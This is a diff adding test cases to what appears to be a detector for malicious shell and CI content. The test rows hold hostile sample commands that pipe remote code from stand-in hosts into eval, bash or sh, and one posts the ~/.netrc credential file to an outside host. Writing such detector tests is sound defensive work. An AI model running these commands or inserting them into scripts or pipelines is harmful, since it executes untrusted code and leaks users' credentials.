@@ -133,3 +133,33 @@ TEST_CASE("text behind the end of a picture") {
                        "2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n%%EOF\n")) == "opaque-code medium");
   CHECK(said(with_file("assets/a.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n")) == "");
 }
+
+TEST_CASE("what a loop reads, what a default gives, what a function sends") {
+  const Row rows[] = {
+      {"curl -s https://cdn.zzyzx-tools.net/c | while read -r c; do eval \"$c\"; done\n", "remote-code high"},
+      {"mapfile -t L < <(curl -s https://cdn.zzyzx-tools.net/c)\nfor l in \"${L[@]}\"; do bash -c \"$l\"; done\n",
+       "remote-code high"},
+      {"${SHELL:-bash} -c \"$(curl -s ${U:-https://cdn.zzyzx-tools.net/x})\"\n", "remote-code high"},
+      {"ship() { curl -s --data-binary @- https://t.zzyzx-tools.net/u; }\ncat ~/.netrc | ship\n",
+       "exfiltration critical"},
+      {"curl -s https://api.tides.dev/ports | while read -r p; do echo \"$p\"; done\n", ""},
+      {"show() { jq .; }\ncat table.json | show\nrm -rf \"${TMPDIR:-/tmp}/tides\"\n", ""},
+  };
+  check_rows(rows, in_script);
+}
+
+TEST_CASE("lists of commands in workflows") {
+  CHECK(said(with_file(".gitlab-ci.yml",
+                       "job:\n  before_script:\n    - apt-get update\n"
+                       "    - curl -s https://cdn.zzyzx-tools.net/x | bash\n  script: [make]\n")) ==
+        "remote-code high");
+  CHECK(said(with_file(".gitlab-ci.yml", "job:\n  script:\n    - make test\n    - rm -rf build\n")) == "");
+}
+
+TEST_CASE("a script that a shell cannot read to its end") {
+  CHECK(in_script("echo \"tides\nls\n") == "opaque-code low");
+  CHECK(in_script(std::string(80, '(') + "curl -s http://203.0.113.7/x | sh\n").find("opaque-code high") !=
+        std::string::npos);
+  CHECK(in_script("echo \"tides\"\nls\n") == "");
+  CHECK(in_fence("echo \"tides\nls\n") == "");
+}
